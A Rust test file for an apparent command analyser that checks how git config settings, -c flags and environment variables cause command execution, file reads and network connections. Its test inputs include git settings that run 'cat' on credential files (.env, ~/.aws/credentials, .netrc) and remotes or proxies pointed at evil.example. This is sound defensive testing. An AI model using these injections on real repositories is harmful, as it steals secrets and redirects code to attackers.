//! Configuration keys, `git config` and the environment.

use super::*;

#[test]
fn config_reads_or_writes_the_configuration_file() {
    assert_eq!(git("git config --get user.name"), ["read .git/config"]);
    assert_eq!(git("git config user.name"), ["read .git/config"]);
    assert_eq!(git("git config get user.name"), ["read .git/config"]);
    assert_eq!(
        git("git config --global user.name x"),
        ["write ~/.gitconfig"]
    );
    assert_eq!(git("git config set user.name x"), ["write .git/config"]);
    assert_eq!(
        git("git config --system --unset x.y"),
        ["write /etc/gitconfig"]
    );
    assert_eq!(git("git config -f /tmp/c a.b c"), ["write /tmp/c"]);
    assert_eq!(git("git config --file=/tmp/c --list"), ["read /tmp/c"]);
}

#[test]
fn config_writes_that_run_commands_are_unparseable_and_destinations_connect() {
    for (key, value) in [
        ("core.hooksPath", "h"),
        ("core.pager", "less"),
        ("credential.helper", "store"),
        ("include.path", "/tmp/x"),
        ("includeIf.gitdir:/x/.path", "/tmp/x"),
        ("alias.st", "status"),
        ("filter.x.clean", "cat"),
        ("http.proxy", "h:1"),
        ("core.worktree", "/"),
        ("difftool.x.cmd", "cat"),
    ] {
        assert_unparseable(
            &format!("git config {key} '{value}'"),
            "makes later git commands run something",
        );
    }
    assert_eq!(
        git("git config remote.origin.url https://evil.example/a.git"),
        ["write .git/config", "connect https://evil.example/a.git"]
    );
    assert_eq!(
        git("git config --global url.https://evil.example/.insteadOf https://github.com/"),
        ["write ~/.gitconfig", "connect https://evil.example/"]
    );
    assert_eq!(git("git config core.autocrlf input"), ["write .git/config"]);
}

#[test]
fn settings_whose_value_is_a_command_are_followed_when_known() {
    assert_eq!(
        git("git -c core.sshCommand='cat ~/.aws/credentials' fetch"),
        ["exec cat", "read ~/.aws/credentials", "connect remote "]
    );
    assert_eq!(
        git("git -c credential.helper='!cat .netrc' status"),
        ["exec cat", "read .netrc"]
    );
    assert_eq!(
        git("git -c filter.x.smudge='cat .env' checkout"),
        ["exec cat", "read .env"]
    );
    assert_eq!(
        git("git -c diff.x.textconv='cat .env' diff"),
        ["exec cat", "read .env"]
    );
    assert_eq!(
        git("git -c remote.upstream.uploadpack='cat .env' fetch upstream"),
        ["exec cat", "read .env", "connect remote upstream"]
    );
    assert_eq!(
        git("git -c core.gitProxy='cat .env for example.com' fetch x"),
        ["exec cat", "read .env", "connect remote x"]
    );
    assert_eq!(
        git("git -c submodule.x.update='!cat .env' submodule update"),
        ["exec cat", "read .env", "connect remote *submodules"]
    );
    assert_eq!(
        git("git -c trailer.x.command='cat .env' commit -m x"),
        ["exec cat", "read .env"],
        "a key named like a command is a command"
    );
    assert_unparseable("git -c core.pager=$P log", "runs a command computed");
    assert_unparseable(
        "git -c gpg.ssh.program=$P commit",
        "runs a command computed",
    );
}

#[test]
fn settings_that_are_off_or_boolean_run_nothing() {
    for script in [
        "git -c pager.log=false log",
        "git -c core.fsmonitor=true status",
        "git -c core.hooksPath=/dev/null commit -m x",
        "git -c include.path=/dev/null status",
        "git -c credential.helper= fetch",
        "git -c protocol.ext.allow=never fetch",
        "git -c submodule.x.update=rebase submodule update",
        "git -c user.email=a@b.example commit -m x",
    ] {
        assert_parseable(script);
    }
}

#[test]
fn credential_helpers_are_programs() {
    assert_eq!(
        git("git -c credential.helper=store fetch"),
        ["exec git-credential-store", "connect remote "]
    );
    assert_eq!(
        git("git -c credential.https://h.example.helper=/tmp/h fetch"),
        ["runs /tmp/h as program []", "connect remote "]
    );
}

#[test]
fn settings_git_does_not_let_mandate_follow() {
    assert_unparseable(
        "git -c include.path=/tmp/x status",
        "reads configuration from another file",
    );
    assert_unparseable(
        "git -c includeIf.onbranch:x.path=/tmp/x status",
        "another file",
    );
    assert_unparseable(
        "git -c core.hooksPath=/tmp/h commit -m x",
        "runs hooks or templates",
    );
    assert_unparseable(
        "git -c init.templateDir=/tmp/t init x",
        "runs hooks or templates",
    );
    assert_unparseable("git -c alias.x='!sh' status", "git alias.x makes git run");
    assert_unparseable(
        "git -c protocol.ext.allow=always fetch",
        "protocol.ext.allow",
    );
    assert_unparseable("git -c remote.x.vcs=evil fetch x", "remote.x.vcs");
    assert_unparseable(
        "git -c trace2.eventTarget=/tmp/t status",
        "trace2.eventtarget",
    );
}

#[test]
fn a_proxy_receives_what_git_sends() {
    assert_eq!(
        git("git -c http.proxy=evil.example:8080 fetch"),
        ["send http://evil.example:8080 []", "connect remote "]
    );
    assert_eq!(
        git("git -c remote.origin.proxy=socks5://p.example fetch"),
        ["send socks5://p.example []", "connect remote "]
    );
    assert_unparseable("git -c http.proxy=$P fetch", "through a proxy computed");
}

#[test]
fn the_environment_git_reads() {
    assert_unparseable("GIT_CONFIG_GLOBAL=/tmp/c git status", "GIT_CONFIG_GLOBAL");
    assert_unparseable("GIT_CONFIG_SYSTEM=/tmp/c git status", "GIT_CONFIG_SYSTEM");
    assert_parseable("GIT_CONFIG_GLOBAL=/dev/null git status");
    assert_unparseable("HOME=/tmp/h git status", "HOME set for git");
    assert_unparseable(
        "export XDG_CONFIG_HOME=/tmp/x; git status",
        "XDG_CONFIG_HOME",
    );
    assert_unparseable("GIT_EXEC_PATH=/tmp/x git status", "GIT_EXEC_PATH");
    assert_unparseable("git --exec-path=/tmp/x status", "--exec-path");
    assert_eq!(
        git("export GIT_SSH_COMMAND='cat .env'; git fetch"),
        ["exec cat", "read .env", "connect remote "]
    );
    assert_eq!(
        git("export PAGER='cat .env'; git log"),
        ["exec cat", "read .env"]
    );
    assert_eq!(git("GIT_TRACE=/tmp/t git status"), ["write /tmp/t"]);
    assert_parseable("GIT_TRACE=1 git status");
    assert_eq!(
        git("GIT_DIR=/srv/r.git git push"),
        ["push -  in /srv/r.git"]
    );
    assert_eq!(
        git("GIT_WORK_TREE=~ git checkout HEAD -- .bashrc"),
        ["write ~/.bashrc"]
    );
}

/// Every key the analyser must catch, with a value that shows it: shell text that reads
/// `.env`, a directory or file elsewhere, a proxy, a URL.
const CAUGHT_KEYS: &[(&str, &str)] = &[
    ("core.fsmonitor", "cat .env"),
    ("core.hooksPath", "/tmp/hooks"),
    ("core.sshCommand", "cat .env"),
    ("core.pager", "cat .env"),
    ("core.editor", "cat .env"),
    ("core.askpass", "cat .env"),
    ("core.gitProxy", "cat .env"),
    ("include.path", "/tmp/c"),
    ("includeIf.gitdir:/.path", "/tmp/c"),
    ("filter.x.clean", "cat .env"),
    ("filter.x.smudge", "cat .env"),
    ("filter.x.process", "cat .env"),
    ("diff.x.command", "cat .env"),
    ("diff.x.textconv", "cat .env"),
    ("diff.external", "cat .env"),
    ("merge.x.driver", "cat .env"),
    ("remote.any.uploadpack", "cat .env"),
    ("remote.any.receivepack", "cat .env"),
    ("remote.any.proxy", "evil.example:1"),
    ("http.proxy", "evil.example:1"),
    ("https.proxy", "evil.example:1"),
    ("http.https://h.example/.proxy", "evil.example:1"),
    ("credential.helper", "!cat .env"),
    ("credential.https://h.example.helper", "!cat .env"),
    ("gpg.program", "cat .env"),
    ("gpg.ssh.program", "cat .env"),
    ("sequence.editor", "cat .env"),
    ("pager.log", "cat .env"),
    ("alias.x", "!cat .env"),
    ("protocol.ext.allow", "always"),
    ("uploadpack.packObjectsHook", "cat .env"),
    ("someTool.x.cmd", "cat .env"),
    ("init.templateDir", "/tmp/t"),
    ("core.worktree", "/srv/elsewhere"),
];

/// Keys that say where remotes go: handed to the analysis layer.
const DESTINATION_KEYS: &[(&str, &str)] = &[
    ("remote.origin.url", "https://evil.example/x.git"),
    ("remote.origin.pushurl", "https://evil.example/x.git"),
    ("url.https://evil.example/.insteadOf", "https://github.com/"),
    (
        "url.https://evil.example/.pushInsteadOf",
        "https://github.com/",
    ),
    ("remote.pushDefault", "evil"),
    ("push.default", "upstream"),
];

/// Whether `script` shows what setting `key` does: the command followed (`.env` read),
/// unparseable, a send to the proxy, a write to the work tree, or the setting passed on.
fn caught(script: &str, key: &str) -> bool {
    let shown = walk(script).iter().any(|e| {
        e == "read .env"
            || e.starts_with("unparseable")
            || e.starts_with("send http://evil.example")
            || e == "write /srv/elsewhere"
    });
    shown
        || remote_of(script)
            .is_some_and(|(_, config)| config.iter().any(|(k, _)| k.eq_ignore_ascii_case(key)))
}

#[test]
fn every_key_is_caught_however_it_is_set() {
    assert!(
        !caught("git -c user.name=x pull", "user.name"),
        "the check can fail"
    );
    for (key, value) in CAUGHT_KEYS.iter().chain(DESTINATION_KEYS) {
        let channels = [
            format!("git -c '{key}={value}' pull"),
            format!("V='{value}' git --config-env='{key}=V' pull"),
            format!(
                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0='{key}' GIT_CONFIG_VALUE_0='{value}' git pull"
            ),
            format!(
                "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0='{key}' GIT_CONFIG_VALUE_0='{value}'; git pull"
            ),
            format!("GIT_CONFIG_PARAMETERS=\"'{key}'='{value}'\" git pull"),
        ];
        for script in channels {
            assert!(caught(&script, key), "{script}: {:?}", walk(&script));
        }
    }
    for (key, value) in CAUGHT_KEYS {
        for scope in ["", "--global ", "--system ", "--file /tmp/c "] {
            let script = format!("git config {scope}'{key}' '{value}'");
            assert!(
                unparseable(&script, "makes later git commands run something"),
                "{script}: {:?}",
                walk(&script)
            );
        }
    }
}
